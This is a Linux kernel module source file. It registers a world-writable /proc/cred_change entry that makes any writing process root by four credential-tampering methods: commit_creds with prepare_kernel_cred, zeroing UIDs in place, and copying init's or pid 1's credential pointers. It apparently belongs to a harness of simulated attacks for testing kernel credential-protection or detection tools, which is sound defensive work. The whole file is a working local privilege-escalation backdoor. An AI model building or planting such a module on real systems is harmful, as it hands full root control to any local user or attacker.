// SPDX-License-Identifier: GPL-2.0-only
/*
 * Makes a process root that writes to /proc/cred_change how:
 *
 *	commit		commit_creds(prepare_kernel_cred(...)), the usual payload of exploits
 *	in_place	zeros in the credentials that it has
 *	init_cred	its pointers to credentials become that of the first process
 *	shared		its pointers become those of another process, pid 1
 */
#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/sched/task.h>
#include <linux/uaccess.h>
#include <linux/uidgid.h>

#include "attack.h"

static int become_by_commit(void)
{
	struct cred *new = prepare_kernel_cred(&init_task);

	return new ? commit_creds(new) : -ENOMEM;
}

static int become_in_place(void)
{
	struct cred *cred = (struct cred *)current_cred();

	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	return 0;
}

/* The old ones are leaked: somebody may still look at them. */
static int become_by_pointer(const struct cred *cred)
{
	get_cred(cred);
	rcu_assign_pointer(current->real_cred, get_cred(cred));
	rcu_assign_pointer(current->cred, cred);
	return 0;
}

static int become_shared(void)
{
	struct pid *pid = find_get_pid(1);
	struct task_struct *task = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
	const struct cred *cred = task ? get_task_cred(task) : NULL;
	int r = cred ? become_by_pointer(cred) : -ESRCH;

	if (cred)
		put_cred(cred);
	if (task)
		put_task_struct(task);
	put_pid(pid);
	return r;
}

static ssize_t on_write(struct file *file, const char __user *from, size_t size,
			loff_t *offset)
{
	char how[16] = "";
	int r;

	if (size >= sizeof(how) || copy_from_user(how, from, size))
		return -EFAULT;
	strim(how);
	attack_now();
	if (!strcmp(how, "commit"))
		r = become_by_commit();
	else if (!strcmp(how, "in_place"))
		r = become_in_place();
	else if (!strcmp(how, "init_cred"))
		r = become_by_pointer(init_task.cred);
	else
		r = become_shared();
	return r ? r : (ssize_t)size;
}

static const struct proc_ops ops = { .proc_write = on_write };

static int change(void)
{
	return proc_create("cred_change", 0222, NULL, &ops) ? 0 : -ENOMEM;
}

static void restore(void)
{
	remove_proc_entry("cred_change", NULL);
}

ATTACK(change, restore, "credentials that change");
